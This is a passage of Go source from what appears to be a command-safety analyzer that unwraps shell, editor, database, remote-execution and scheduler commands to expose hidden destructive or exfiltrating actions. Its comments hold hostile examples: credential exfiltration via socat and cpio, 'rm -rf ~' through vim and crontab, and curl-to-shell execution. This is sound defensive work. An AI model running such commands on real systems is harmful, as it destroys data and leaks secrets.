			sub, arg := args.fields[i], args.fields[i+1]
			if i+1 < len(args.srcs) {
				cmd.CodeFrom = append(cmd.CodeFrom, args.srcs[i+1]...)
			}
			switch sub {
			case "php:script", "php-script", "scr":
				w.runFile(cmd, arg, c.with("drush php:script").with("script:"+CleanPath(arg)), args.fields[i+1:])
			case "php:eval", "php-eval", "ev", "eval":
				for _, it := range extractCode("php", arg) {
					w.codeItem(it, c.with("drush php:eval"))
				}
			}
		}
	}
	if name == "sf" || name == "sfdx" {
		w.apexRun(cmd, args, c, in)
	}
	if name == "deno" && len(args.fields) >= 2 && args.fields[0] == "task" {
		w.runTask(cmd, c)
		return
	}
	if name == "bun" && len(args.fields) >= 2 && args.fields[0] == "run" && !strings.Contains(args.fields[1], ".") {
		// "bun run NAME" runs package.json's script NAME (a file name has
		// an extension: bun run index.ts).
		w.runTask(cmd, c)
		return
	}
	if strings.EqualFold(strings.TrimSuffix(strings.ToLower(name), ".exe"), "diskpart") {
		// diskpart /s SCRIPT: a script the session wrote that cleans or
		// formats a disk wipes it.
		words := winSplit(cmd.Text)
		for i, a := range words {
			if strings.EqualFold(a, "/s") && i+1 < len(words) {
				if f := w.st.Files[CleanPath(winPath(words[i+1]))]; f != nil && diskpartWipeRe.MatchString(f.Content) {
					w.emit(newRaw([]string{"wipefs", "-a", "/dev/windows-volume"}), c.with("diskpart /s"), stdinInfo{})
				}
			}
		}
	}
	if name == "terraform" || name == "tofu" {
		f := args.fields
		for len(f) > 0 && strings.HasPrefix(f[0], "-") {
			f = f[1:] // -chdir=DIR and other global options
		}
		if len(f) >= 3 && f[0] == "workspace" && (f[1] == "select" || f[1] == "new") {
			// The workspace later commands act on, as TF_WORKSPACE would.
			w.st.setVar("TF_WORKSPACE", f[2])
		}
	}
	if gf := gitSubArgs(name, args.fields); len(gf) > 0 && gf[0] == "stash" && (len(gf) == 1 || gf[1] == "push" || gf[1] == "save" || strings.HasPrefix(gf[1], "-")) {
		// Work stashed first is not lost by a reset that follows.
		w.st.setVar("GIT_STASHED", "1")
	}
	if (name == "kubectl" || name == "oc") && contains(args.fields, "port-forward") {
		// kubectl port-forward svc/pg-prod 6543:5432: localhost:6543 is
		// that service from now on.
		target := ""
		for i, a := range args.fields {
			switch {
			case a == "port-forward" || strings.HasPrefix(a, "-"):
				continue
			case i > 0 && (args.fields[i-1] == "-n" || args.fields[i-1] == "--namespace" || args.fields[i-1] == "--context"):
				continue
			case target == "":
				target = a
			default:
				if lp, _, ok := strings.Cut(a, ":"); ok {
					w.st.setTunnel(lp, target)
				} else if strings.Trim(a, "0123456789") == "" {
					w.st.setTunnel(a, target)
				}
			}
		}
	}
	if name == "docker" || name == "podman" || name == "nerdctl" {
		// "docker run --rm -p 6380:6379 --name redis-test redis": from
		// now on localhost:6380 is that throwaway container.
		if port, who := publishedScratch(args.fields); port != "" {
			w.st.setTunnel(port, "container:"+who)
		}
	}
	for _, oc := range optionCommands(name, args.fields) {
		w.sub(oc, c.with(name+" option"), nil)
	}
	for _, kv := range args.env {
		if n, v, ok := strings.Cut(kv, "="); ok {
			w.commandVar(n, v, c)
		}
	}
	switch {
	case shells[name]:
		w.runShell(cmd, args, c, in)
	case strings.EqualFold(name, "iex") || strings.EqualFold(name, "Invoke-Expression"):
		cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
		cmd.CodeFrom = append(cmd.CodeFrom, allSrcs(args)...)
	case strings.EqualFold(name, "call") && len(args.fields) > 0 && (strings.Contains(cmd.Text, `\`) || strings.Contains(args.fields[0], "%") || batchFile(args.fields[0])):
		// cmd.exe's "call FILE.bat": the batch file runs.
		w.runFile(cmd, args.fields[0], c.with("call "+args.fields[0]), args.fields)
	case name == "eval":
		text := strings.Join(args.fields, " ")
		cmd.CodeFrom = append(cmd.CodeFrom, allSrcs(args)...)
		if !fullyUnknown(text) {
			w.sub(text, c.with("eval"), c.pos)
		} else if !contains(c.via, "eval $var") {
			// P="$(curl -s URL)", then eval "$P": what eval runs is what
			// the substitution printed, as in eval "$(curl -s URL)".
			for _, from := range args.valueFrom {
				w.sub("eval "+from, c.with("eval $var"), nil)
			}
		}
	case name == "source" || name == ".":
		if len(args.fields) > 0 && (args.fields[0] == "/dev/stdin" || args.fields[0] == "-") {
			cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
			if in.known {
				w.sub(in.content, c.with(viaStdin(name, in)), nil)
			}
		} else if len(args.fields) > 0 {
			cmd.CodeFrom = append(cmd.CodeFrom, args.srcs[0]...)
			if secretEnvFile(args.fields[0]) {
				w.st.SourcedEnv = args.fields[0]
			}
			w.runFile(cmd, args.fields[0], c.with(name+" "+args.fields[0]), append([]string{args.fields[0]}, args.fields[1:]...))
		} else if in.sources != nil {
			cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
		}
	case w.st.SourcedEnv != "" && envDump(name, args.fields):
		// "set -a; . ./.env.production; set +a; env": the dump prints
		// the file's secrets, as reading the file would.
		w.emit(newRaw([]string{"cat", w.st.SourcedEnv}), c.with(name+" after source"), stdinInfo{})
	case Interpreter(name) != "":
		w.runInterp(cmd, Interpreter(name), args, c, in)
	case name == "find":
		w.findExec(cmd, c)
	case name == "su" || name == "runuser" || name == "flock" || name == "script":
		// "su -c CMD", "flock FILE -c CMD", "script -c CMD"
		found := false
		for i := 0; i+1 < len(args.fields); i++ {
			// -c, also bundled with other short flags ("script -qc CMD").
			a := args.fields[i]
			if a == "-c" || a == "--command" || len(a) > 2 && a[0] == '-' && a[1] != '-' && strings.HasSuffix(a, "c") && !strings.ContainsAny(a[1:len(a)-1], "c=") {
				w.sub(args.fields[i+1], c.with(name+" -c"), nil)
				found = true
				break
			}
		}
		if !found && (name == "su" || name == "runuser") {
			// "... | su -": the login shell reads its commands from stdin.
			w.stdinShell(cmd, c, in)
		}
	case name == "cmake" && len(args.fields) > 2 && args.fields[0] == "-E":
		// cmake -E rm -rf PATH, remove_directory PATH: its portable rm.
		switch args.fields[1] {
		case "rm", "remove":
			w.emit(newRaw(append([]string{"rm"}, args.fields[2:]...)), c.with("cmake -E"), stdinInfo{})
		case "remove_directory":
			w.emit(newRaw(append([]string{"rm", "-r", "-f"}, args.fields[2:]...)), c.with("cmake -E"), stdinInfo{})
		}
	case (name == "make" || name == "gmake") && in.known && makefileFromStdin(args.fields):
		// "make -f - <<< $'all:\n\trm -rf ~'": the Makefile is the input.
		for _, r := range makeRecipes(in.content, taskTargets(args.fields, "-f", "--file", "-C")) {
			w.sub(r, c.with("make -f -"), nil)
		}
	case (name == "make" || name == "gmake") && w.remoteMakefile(cmd, args, in):
		// A Makefile fetched from the network (piped in, a process
		// substitution, or downloaded earlier) runs its recipes: the
		// network's code runs, as in curl | sh.
	case name == "npm" && len(args.fields) >= 2 && args.fields[0] == "pkg" && args.fields[1] == "set":
		w.runTask(cmd, c)
	case name == "make" || name == "gmake" || name == "npm" || name == "pnpm" || name == "yarn" || name == "bun" || name == "just" || name == "pip" || name == "pip3" || name == "uv" || name == "pipx" ||
		name == "invoke" || name == "inv" || name == "fab" || name == "task" || name == "go-task" || name == "direnv" || name == "systemctl" || buildTriggers[name] != nil ||
		name == "mise" || name == "rtx" || name == "composer" || name == "poe" || name == "conan":
		if len(w.st.Files) > 0 {
			w.runTask(cmd, c)
		}
	case name == "git":
		w.gitExtras(args.fields, c)
	case name == "act" || name == "gh" && len(args.fields) > 1 && args.fields[0] == "workflow" && args.fields[1] == "run" ||
		name == "glab" && len(args.fields) > 1 && args.fields[0] == "ci" && (args.fields[1] == "run" || args.fields[1] == "trigger"):
		w.runCI(name, c)
	case name == "vim" || name == "vi" || name == "nvim" || name == "ex" || name == "view" || name == "gvim":
		// "vim -c ':!rm -rf ~' -c ':q'", "vim +'!cmd'": an Ex command
		// starting with "!" runs a shell command.
		for i, a := range args.fields {
			ex := ""
			switch {
			case (a == "-c" || a == "--cmd" || len(a) > 2 && a[0] == '-' && a[1] != '-' && a[len(a)-1] == 'c' && strings.Trim(a[1:], "esnNXEbRZc") == "") && i+1 < len(args.fields):
				// -c, also bundled ("ex -sc CMD").
				ex = args.fields[i+1]
			case strings.HasPrefix(a, "+") && len(a) > 1:
				ex = a[1:]
			}
			t := strings.TrimLeft(ex, ": ")
			// "%!cmd" filters the buffer through cmd; "r !cmd" reads its
			// output in; "r FILE" reads the file into the buffer a later
			// ":w" saves elsewhere.
			t = strings.TrimPrefix(t, "%")
			for _, p := range []string{"r ", "read "} {
				if rest, ok := strings.CutPrefix(t, p); ok {
					if rest = strings.TrimSpace(rest); strings.HasPrefix(rest, "!") {
						t = rest
					} else if rest != "" {
						w.emit(newRaw([]string{"cat", rest}), c.with(name+" -c "+strings.TrimSpace(p)), stdinInfo{})
					}
				}
			}
			if strings.HasPrefix(t, "!") || strings.HasPrefix(t, "silent !") || strings.HasPrefix(t, "call system(") {
				t = strings.TrimPrefix(strings.TrimPrefix(t, "silent "), "!")
				if strings.HasPrefix(t, "call system(") {
					t = strings.Trim(strings.TrimSuffix(strings.TrimPrefix(t, "call system("), ")"), `'"`)
				}
				w.sub(t, c.with(name+" -c !"), nil)
			}
		}
	case name == "emacs" || name == "emacsclient":
		// emacs --batch --eval '(...)': Lisp that runs a shell command,
		// deletes, or reads a file into a buffer it prints.
		for i, a := range args.fields {
			code := ""
			switch {
			case (a == "--eval" || a == "-eval" || a == "-e") && i+1 < len(args.fields):
				code = args.fields[i+1]
			case strings.HasPrefix(a, "--eval="):
				code = strings.TrimPrefix(a, "--eval=")
			}
			for _, m := range elispRe.FindAllStringSubmatch(code, 8) {
				switch m[1] {
				case "shell-command", "call-process-shell-command", "shell-command-to-string", "async-shell-command":
					w.sub(m[2], c.with(name+" --eval"), nil)
				case "delete-directory":
					w.emit(newRaw([]string{"rm", "-r", "-f", m[2]}), c.with(name+" --eval"), stdinInfo{})
				case "delete-file":
					w.emit(newRaw([]string{"rm", "-f", m[2]}), c.with(name+" --eval"), stdinInfo{})
				default: // find-file, insert-file-contents
					w.emit(newRaw([]string{"cat", m[2]}), c.with(name+" --eval"), stdinInfo{})
				}
			}
		}
	case name == "tar" || name == "gtar" || name == "bsdtar":
		// Options that run a program: --checkpoint-action=exec=CMD,
		// --to-command=CMD, -I/--use-compress-program=CMD.
		for i, a := range args.fields {
			cmdText := ""
			switch {
			case strings.HasPrefix(a, "--checkpoint-action=exec="):
				cmdText = strings.TrimPrefix(a, "--checkpoint-action=exec=")
			case strings.HasPrefix(a, "--to-command="):
				cmdText = strings.TrimPrefix(a, "--to-command=")
			case strings.HasPrefix(a, "--use-compress-program="):
				cmdText = strings.TrimPrefix(a, "--use-compress-program=")
			case (a == "-I" || a == "--use-compress-program" || a == "--to-command") && i+1 < len(args.fields):
				cmdText = args.fields[i+1]
			}
			if cmdText != "" {
				w.sub(cmdText, c.with(name+" exec"), nil)
			}
		}
	case name == "rsync":
		// -e/--rsh names the remote shell program, run locally.
		for i, a := range args.fields {
			if (a == "-e" || a == "--rsh") && i+1 < len(args.fields) {
				w.sub(args.fields[i+1], c.with("rsync -e"), nil)
			} else if strings.HasPrefix(a, "--rsh=") {
				w.sub(strings.TrimPrefix(a, "--rsh="), c.with("rsync -e"), nil)
			}
		}
	case name == "cat" && writesOut(cmd.Redirects):
		// "cat hook >> ~/.bashrc" after writing hook: what lands in the
		// target is the file's content, as with "cat < hook".
		for _, a := range args.fields {
			if _, file := w.st.LookupFile(a); file != nil && !file.Downloaded && !strings.HasPrefix(a, "-") {
				cmd.Stdin = append(cmd.Stdin, Source{Kind: "file", Name: a, Text: file.Content})
			}
		}
	case (name == "echo" || name == "printf") && writesOut(cmd.Redirects):
		// echo 'source ~/.config/x/init.sh' >> ~/.profile after writing
		// init.sh: the line plants what that file holds.
		// A line running the file by path ("~/.local/bin/helper.sh &")
		// plants it the same way.
		for _, m := range sourceLineRe.FindAllStringSubmatch(strings.Join(args.fields, " "), 4) {
			p := m[1] + m[2]
			if _, file := w.st.LookupFile(p); file != nil && !file.Downloaded {
				cmd.Stdin = append(cmd.Stdin, Source{Kind: "file", Name: p, Text: file.Content})
			}
		}
		// A line added to a shell's startup file runs in every new
		// shell: "echo 'flyctl apps destroy api-prod --yes' >> ~/.bashrc"
		// is walked as that command, as crontab entries are.
		if text, ok := echoedText(name, args.fields); ok && redirectsToPth(cmd.Redirects) && strings.HasPrefix(strings.TrimSpace(text), "import ") {
			// A .pth file's "import" lines run at every Python start.
			for _, it := range extractCode("python", text) {
				w.codeItem(it, c.with("python .pth startup"))
			}
		}
		if text, ok := echoedText(name, args.fields); ok && redirectsToRC(cmd.Redirects) {
			for _, line := range strings.Split(text, "\n") {
				if line = strings.TrimSpace(line); line != "" && !strings.HasPrefix(line, "#") {
					w.sub(line, c.with("shell rc entry"), nil)
				}
			}
		}
	case (name == "sqlcmd" || name == "Invoke-Sqlcmd" || name == "osql" || name == "mssql-cli") && (strings.Contains(strings.ToLower(cmd.Text), "xp_cmdshell") || in.known && strings.Contains(strings.ToLower(in.content), "xp_cmdshell")):
		// EXEC xp_cmdshell 'cmd': SQL Server runs cmd through cmd.exe on
		// the server, as the service account.
		w.serverCommands(xpCmdshellRe, args, in, c.with(name+" xp_cmdshell"))
	case (name == "psql" || name == "gitlab-psql" || name == "ysqlsh") && (strings.Contains(cmd.Text, "ROGRAM") || strings.Contains(cmd.Text, "rogram") || in.known && strings.Contains(strings.ToLower(in.content), "program")):
		// COPY ... TO/FROM PROGRAM 'cmd': the database server runs cmd
		// through its shell (on the server the client connects to).
		w.serverCommands(copyProgramRe, args, in, c.with(name+" COPY PROGRAM"))
	case name == "salt" || name == "salt-ssh" || name == "salt-call":
		// salt TARGET cmd.run 'CMD' (cmd.run_all, cmd.shell, ...): CMD
		// runs on the minions the target names, as over ssh; salt-call
		// runs it on this one.
		f := args.fields
		target := ""
		// What runs does so on the minions the target names (salt-call:
		// on this one).
		saltCtx := func(fn string) ctx {
			cc := c.with(name + " " + fn)
			if name != "salt-call" {
				cc.host = target
			}
			return cc
		}
		for i, a := range f {
			switch {
			case strings.HasPrefix(a, "cmd.run") || a == "cmd.shell" || a == "cmd.exec_code":
				if i+1 < len(f) {
					cc := saltCtx(a)
					if a == "cmd.exec_code" && i+2 < len(f) {
						w.sub(f[i+1]+" -c "+quote(f[i+2]), cc, nil)
					} else {
						w.sub(f[i+1], cc, nil)
					}
				}
			case a == "cmd.script" && i+1 < len(f) && (strings.HasPrefix(f[i+1], "http://") || strings.HasPrefix(f[i+1], "https://") || strings.HasPrefix(f[i+1], "ftp://")):
				// cmd.script fetches its source and runs it: from the
				// master's file server (salt://) that is the state
				// tree's own script, from the web it is a download
				// piped into the minion's shell.
				w.sub("curl -fsSL "+quote(f[i+1])+" | sh", saltCtx(a), nil)
			case target == "" && !strings.HasPrefix(a, "-") && !strings.Contains(a, "."):
				target = a
			}
		}
	case name == "mix" && len(args.fields) >= 3 && args.fields[0] == "run":
		// "mix run -e CODE": Elixir code, run in the project.
		f := args.fields
		for i := 1; i+1 < len(f); i++ {
			if f[i] == "-e" || f[i] == "--eval" {
				w.sub("elixir -e "+quote(f[i+1]), c.with("mix run -e"), nil)
			}
		}
	case name == "blender" || name == "blender.exe":
		// Blender runs Python: "--python-expr CODE" as python -c runs
		// CODE, "--python FILE" (-P) as python runs the file.
		f := args.fields
		for i := 0; i+1 < len(f); i++ {
			switch f[i] {
			case "--python-expr":
				w.sub("python3 -c "+quote(f[i+1]), c.with("blender --python-expr"), nil)
			case "--python", "-P":
				w.sub("python3 "+quote(f[i+1]), c.with("blender --python"), nil)
			}
		}
	case name == "ansible":
		// ansible HOSTS -m shell|command|raw -a 'CMD': CMD runs on the
		// hosts, as over ssh.
		module := "command"
		for i, a := range args.fields {
			if (a == "-m" || a == "--module-name") && i+1 < len(args.fields) {
				module = args.fields[i+1]
			}
		}
		for i, a := range args.fields {
			if (a == "-a" || a == "--args") && i+1 < len(args.fields) {
				cc := c.with("ansible " + module)
				cc.host = ansibleHosts(args.fields)
				for _, line := range ansibleModuleCommands(module, args.fields[i+1]) {
					w.sub(line, cc, nil)
				}
			}
		}
	case name == "ansible-playbook":
		// A playbook the session wrote runs its tasks on the hosts.
		for _, a := range args.fields {
			if !strings.HasSuffix(a, ".yml") && !strings.HasSuffix(a, ".yaml") {
				continue
			}
			key, f := w.st.LookupFile(a)
			if f == nil || f.Downloaded {
				continue
			}
			cc := c.with("ansible-playbook " + key)
			cc.crossCall = cc.crossCall || w.st.earlier("file:"+key)
			for _, t := range playbookTasks(f.Content) {
				for _, line := range ansibleModuleCommands(t[0], t[1]) {
					w.sub(line, cc, nil)
				}
			}
		}
	case winScriptHosts[strings.ToLower(name)]:
		// Windows script hosts and loaders run the file they are given:
		// "cscript //nologo x.vbs", "mshta x.hta", "rundll32 x.dll,Entry",
		// "regsvr32 /s x.dll". A file downloaded earlier is a download run.
		for _, a := range winSplit(cmd.Text)[1:] {
			a = strings.Trim(a, `"'`)
			if a == "" || strings.HasPrefix(a, "//") || a[0] == '/' && len(a) <= 12 && !strings.Contains(a[1:], "/") || a[0] == '-' {
				continue // //nologo, /s, /i:...
			}
			if i := strings.IndexByte(a, ','); i > 0 {
				a = a[:i] // rundll32's ",EntryPoint"
			}
			w.runFile(cmd, winPath(a), c.with(name), nil)
			break
		}
	case name == "installer":
		// macOS "installer -pkg FILE -target /": the package's scripts
		// run as root; a package downloaded earlier is a download run.
		for i, a := range args.fields {
			if (a == "-pkg" || a == "-package") && i+1 < len(args.fields) {
				w.runFile(cmd, args.fields[i+1], c.with("installer -pkg"), nil)
			}
		}
	case name == "socat":
		// socat's FILE:/OPEN:/GOPEN: addresses are files it reads (or
		// writes): "socat -u FILE:~/.pgpass TCP:host:9000" sends one.
		for _, a := range args.fields {
			kind, rest, ok := strings.Cut(a, ":")
			if !ok || rest == "" {
				continue
			}
			switch strings.ToUpper(kind) {
			case "FILE", "OPEN", "GOPEN", "CREATE":
				p, _, _ := strings.Cut(rest, ",")
				w.emit(newRaw([]string{"cat", p}), c.with("socat"), stdinInfo{})
			}
		}
	case sqlFileFlags[name] != nil:
		// "psql -h prod -f wipe.sql" after writing wipe.sql: the file is
		// the client's input, as "psql < wipe.sql" would be.
		for i, a := range args.fields {
			for _, f := range sqlFileFlags[name] {
				p := ""
				switch {
				case a == f && i+1 < len(args.fields):
					p = args.fields[i+1]
				case strings.HasPrefix(f, "--") && strings.HasPrefix(a, f+"="):
					p = a[len(f)+1:]
				}
				if p == "" {
					continue
				}
				if _, file := w.st.LookupFile(p); file != nil && !file.Downloaded {
					cmd.Stdin = append(cmd.Stdin, Source{Kind: "file", Name: p, Text: file.Content})
				}
			}
		}
	case name == "cmd" || name == "cmd.exe":
		// "cmd /c STRING": the rest is a command line, taken from the
		// source text when it is there (a POSIX parse of an unquoted
		// "C:\Users" drops the backslash).
		if m := cmdSlashC.FindStringIndex(cmd.Text); m != nil && !strings.ContainsAny(cmd.Text[m[1]:], "'\"") {
			w.sub(cmdLocal(cmdUnescape(cmd.Text[m[1]:])), c.with("cmd /c"), nil)
			break
		}
		hasC := false
		for i, a := range args.fields {
			if la := strings.ToLower(a); la == "/c" || la == "/k" || la == "/r" {
				hasC = true
				w.sub(cmdLocal(cmdUnescape(strings.Join(args.fields[i+1:], " "))), c.with("cmd /c"), nil)
				break
			}
		}
		if !hasC {
			// "... | cmd": the commands are standard input, as for sh.
			cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
			if in.known {
				w.sub(in.content, c.with(viaStdin(cmd.Name, in)), nil)
			}
		}
	case name == "schtasks" || name == "schtasks.exe" || name == "sc" || name == "sc.exe":
		// What a task or service runs meets the rules it would meet
		// typed now; creating it stays a persistence matter.
		if line := winScheduled(name, winSplit(cmd.Text)); line != "" {
			w.sub(line, c.with(name+" task"), nil)
		}
	case (name == "cpio" || name == "afio") && in.known && (containsPrefix(args.fields, "-o") || contains(args.fields, "--create")):
		// "echo ~/.netrc | cpio -o": the archive reads the files listed
		// on its input.
		for i, l := range strings.Split(in.content, "\n") {
			if l = strings.TrimSpace(l); l != "" && i < 64 {
				nr := newRaw([]string{"cat", l})
				nr.text = cmd.Text
				w.emit(nr, c.with(name+" -o"), stdinInfo{})
			}
		}
	case name == "fd" || name == "fdfind":
		// fd PATTERN [PATH...] -x CMD: find's -exec, over what the
		// pattern selects (a regex's literal start as a name test).
		if line := fdAsFind(args.fields); line != "" {
			w.sub(line, c.with(name+" -x"), nil)
		}
	case name == "mount" || name == "bindfs":
		// A bind mount shows SRC at DST, as a link would: reads below DST
		// read SRC ("mount --bind / /mnt/host", then /mnt/host/etc/shadow).
		bind := name == "bindfs"
		var ops []string
		for i := 0; i < len(args.fields); i++ {
			a := args.fields[i]
			switch {
			case a == "--bind" || a == "--rbind" || a == "-B" || a == "-R":
				bind = true
			case a == "-o" && i+1 < len(args.fields):
				i++
				if o := args.fields[i]; strings.Contains(o, "bind") && name == "mount" {
					bind = true
				}
			case a == "-t" && i+1 < len(args.fields):
				i++
			case strings.HasPrefix(a, "-"):
			default:
				ops = append(ops, a)
			}
		}
		if bind && len(ops) == 2 && !Unknown(ops[0]) && !Unknown(ops[1]) {
			w.st.setLink(ops[1], ops[0])
			w.st.setOrigin(ops[1], ops[0])
		}
	case name == "mongosh" || name == "mongo":
		// "mongosh URI script.js": the script the session wrote runs
		// against that server, as --eval would run it.
		var rest []string
		var code []string
		for _, a := range args.fields {
			if strings.HasSuffix(a, ".js") && !strings.HasPrefix(a, "-") {
				if _, f := w.st.LookupFile(a); f != nil && !f.Downloaded {
					code = append(code, f.Content)
					continue
				}
			}
			rest = append(rest, a)
		}
		if len(code) > 0 {
			nr := newRaw(append(append([]string{name}, rest...), "--eval", strings.Join(code, "\n")))
			nr.text = cmd.Text
			w.emit(nr, c.with(name+" script"), stdinInfo{})
		}
	case name == "doskey" || name == "doskey.exe":
		// doskey NAME=TEXT defines a cmd.exe macro: an alias whose $*
		// are the arguments and $T separates commands.
		if _, def, ok := strings.Cut(cmd.Text, " "); ok {
			if n, body, ok := strings.Cut(strings.TrimSpace(def), "="); ok && validName(n) {
				body = strings.NewReplacer("$*", "", "$T", ";", "$t", ";").Replace(body)
				w.st.Aliases[n] = strings.TrimSpace(body)
				w.st.origin["alias:"+n] = w.st.gen
			}
		}
	case name == "kubectl" && len(args.fields) > 2 && args.fields[0] == "config" && args.fields[1] == "use-context",
		name == "kubectx" && len(args.fields) == 1 && !strings.HasPrefix(args.fields[0], "-"):
		// The cluster later kubectl and helm commands act on.
		w.st.setVar(KubeContextKey, args.fields[len(args.fields)-1])
	case name == "launchctl" && len(args.fields) > 1 && (args.fields[0] == "load" || args.fields[0] == "bootstrap"):
		// The agent loaded is judged by its plist where the session wrote
		// it; one the session did not write (or downloaded) is unknown.
		if p := args.fields[len(args.fields)-1]; strings.HasSuffix(p, ".plist") {
			_, f := w.st.LookupFile(p)
			if f == nil || f.Downloaded {
				cmd.Notes = append(cmd.Notes, "plist-unknown")
				break
			}
			// What the agent runs, walked as the command it is; a
			// program in a temporary or hidden place is as unknown.
			argv := plistProgram(f.Content)
			if len(argv) == 0 {
				break
			}
			if hiddenOrTemp(argv[0]) {
				cmd.Notes = append(cmd.Notes, "plist-unknown")
			}
			w.sub(joinQuoted(argv), c.with("launch agent"), nil)
		}
	case name == "crontab":
		// The entries a new crontab installs run later as commands of
		// their own: "(crontab -l; echo '0 3 * * * rm -rf ~') | crontab -".
		// Each is walked, so what it runs meets the rules it would meet
		// typed now; the install itself stays a persistence warning.
		for _, line := range w.crontabInput(args.fields, in) {
			if cmdText := cronCommand(line); cmdText != "" {
				w.sub(cmdText, c.with("crontab entry"), nil)
			}
		}
	case name == "at" || name == "batch":
		// at runs the commands on its stdin (or -f FILE) later, once.
		for i := 0; i+1 < len(args.fields); i++ {
			if args.fields[i] == "-f" {
				w.runFile(cmd, args.fields[i+1], c.with("at -f"), nil)
				return
			}
		}
		if !contains(args.fields, "-l") && !contains(args.fields, "-r") && !contains(args.fields, "-d") {
			w.stdinShell(cmd, c, in)
		}
	case name == "sudo" || name == "doas":
		// Reached only when sudo wraps no command: "sudo -s" / "sudo -i"
		// start a shell, which reads stdin when it is a pipe.
		for _, a := range args.fields {
			if a == "-s" || a == "-i" || a == "--shell" || a == "--login" || strings.HasPrefix(a, "-") && !strings.HasPrefix(a, "--") && strings.ContainsAny(a, "si") {
				w.stdinShell(cmd, c, in)
				break
			}
		}
	case name == "go":
		if len(args.fields) > 0 && args.fields[0] == "generate" {
			// The //go:generate lines of the Go files the session wrote.
			w.runTaskFile(w.matchingFiles(".go"), "go generate", c, configCommands)
		}
		// "go run FILE.go": a Go file the session wrote.
		if len(args.fields) > 0 && args.fields[0] == "run" {
			for _, a := range args.fields[1:] {
				if !strings.HasSuffix(a, ".go") {
					continue
				}
				if key, fl := w.st.LookupFile(a); fl != nil && !fl.Downloaded {
					cc := c.with("script:" + key)
					cc.crossCall = cc.crossCall || w.st.earlier("file:"+key)
					for _, s := range extractCode("go", fl.Content) {
						w.codeItem(s, cc)
					}
				}
			}
		}
	case name == "ssh":
		for i, a := range args.fields {
			// -L [bind:]PORT:HOST:HOSTPORT, alone or in a flag cluster
			// (-fNL), or attached (-L6543:...).
			if !strings.HasPrefix(a, "-") || strings.HasPrefix(a, "--") || !strings.Contains(a, "L") {
				continue
			}
			spec := ""
			if k := strings.IndexByte(a, 'L'); k == len(a)-1 && i+1 < len(args.fields) {
				spec = args.fields[i+1]
			} else if k >= 0 && k < len(a)-1 {
				spec = a[k+1:]
			}
			if p := strings.Split(spec, ":"); len(p) == 3 {
				w.st.setTunnel(p[0], p[1])
			} else if len(p) == 4 {
				w.st.setTunnel(p[1], p[2])
			}
		}
		if host, rest := sshRemote(args.fields); rest != "" {
			// The remote command reads ssh's standard input: "ssh host
			// 'bash -s' < script.sh" runs the script there.
			cc := c.with("ssh")
			cc.stdin = in
			cc.host = host
			w.sub(rest, cc, nil)
		}
	case name == "gcloud" || name == "az" || name == "aws" || name == "vagrant" || name == "fly" || name == "flyctl" || name == "heroku" ||
		name == "parallel-ssh" || name == "pssh" || name == "pdsh" || name == "clush" || name == "acli" || name == "terminus" || name == "hcloud" || name == "doctl" || name == "zowe" || name == "knife" || name == "govc" || name == "kamal":
		for _, rc := range remoteShells(name, w.fileParams(args.fields)) {
			cc := c.with(name + " remote command")
			cc.host = remoteHost(name, args.fields)
			w.sub(rc, cc, nil)
		}
	case name == "adb" || name == "adb.exe":
		// "adb [-s SERIAL] shell CMD": CMD runs in the device's shell, as
		// an ssh remote command runs on its host.
		if rest := adbShell(args.fields); rest != "" {
			cc := c.with("adb shell")
			cc.stdin = in
			w.sub(rest, cc, nil)
		}
	case name == "pwsh" || name == "powershell" || name == "powershell.exe" || name == "pwsh.exe":
		script := false
		for i := 0; i < len(args.fields); i++ {
			switch a := strings.ToLower(args.fields[i]); {
			case a == "-":
				// "... | pwsh -": the script is standard input.
				cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
				return
			case (a == "-file" || a == "-f") && i+1 < len(args.fields):
				cmd.CodeFrom = append(cmd.CodeFrom, args.srcs[i+1]...)
				f := args.fields[i+1]
				if ws := winSplit(cmd.Text); len(ws) > i+2 && (strings.ContainsAny(ws[i+2], `\\`) || strings.Contains(strings.ToLower(ws[i+2]), "$env:")) {
					// ".\\boot.ps1" as written: a POSIX parse drops the
					// backslash.
					f = winPath(ws[i+2])
				}
				w.runFile(cmd, f, c.with("script:"+CleanPath(f)), args.fields[i+1:])
				return
			case (a == "-c" || a == "-command") && i+1 < len(args.fields) && args.fields[i+1] == "-":
				cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
				return
			case !strings.HasPrefix(a, "-") && !script:
				script = true
			}
		}
		if len(args.fields) == 0 || !script && in.sources != nil {
			cmd.CodeFrom = append(cmd.CodeFrom, in.sources...)
		}
		for i := 0; i+1 < len(args.fields); i++ {
			switch strings.ToLower(args.fields[i]) {
			case "-c", "-command", "/c":
				// PowerShell pipelines ("iwr URL | iex") read like sh.
				code := strings.Join(args.fields[i+1:], " ")
				if strings.Contains(cmd.Text, `\`) {
					// An unquoted command with Windows paths: the POSIX
					// parse dropped its backslashes; take it as written.
					if ws := winSplit(cmd.Text); len(ws) > 0 {
						for j, wd := range ws {
							if lw := strings.ToLower(wd); (lw == "-c" || lw == "-command" || lw == "/c") && j+1 < len(ws) {
								if rest := strings.Join(ws[j+1:], " "); !strings.ContainsAny(rest, `"'`) {
									code = rest
								}
								break
							}
						}
					}
				}

				w.psNetExec(code, c.with(name+" -c"))
				w.sub(code, c.with(name+" -c"), nil)
				return
			case "-e", "-ec", "-enc", "-encodedcommand":
				if s, ok := decodeUTF16B64(args.fields[i+1]); ok {
					w.psNetExec(s, c.with(name+" -enc"))
					w.sub(s, c.with(name+" -enc"), nil)
				}
				return
			}
		}
	case name == "tmux":
		if rest := tmuxCommand(args.fields); rest != "" {
			w.sub(rest, c.with("tmux"), nil)
		}
	case name == "screen":
		var flags []string
		for _, a := range args.fields {
			if len(a) > 2 && a[0] == '-' && a[1] != '-' && (a[len(a)-1] == 'S' || a[len(a)-1] == 'c') && strings.Trim(a[1:], "dmDRrSc") == "" {
				// "-dmS NAME": bundled flags whose last takes the value.
				for _, ch := range a[1:] {
					flags = append(flags, "-"+string(ch))
				}
				continue
			}
			flags = append(flags, a)
		}
		if contains(flags, "-X") {
			break // a command to a running session (stuff: optionCommands)
		}
		if rest := skipOpts(flags, "S", "c", "L", "Logfile", "p", "X", "h", "T"); len(rest) > 0 {
			nr := newRaw(rest)
			w.emit(nr, c.with("screen"), stdinInfo{})
		}
	case name == "sbatch":
		// "sbatch --wrap 'CMD'" runs CMD on a node of the cluster; a
		// batch script the session wrote runs there too.
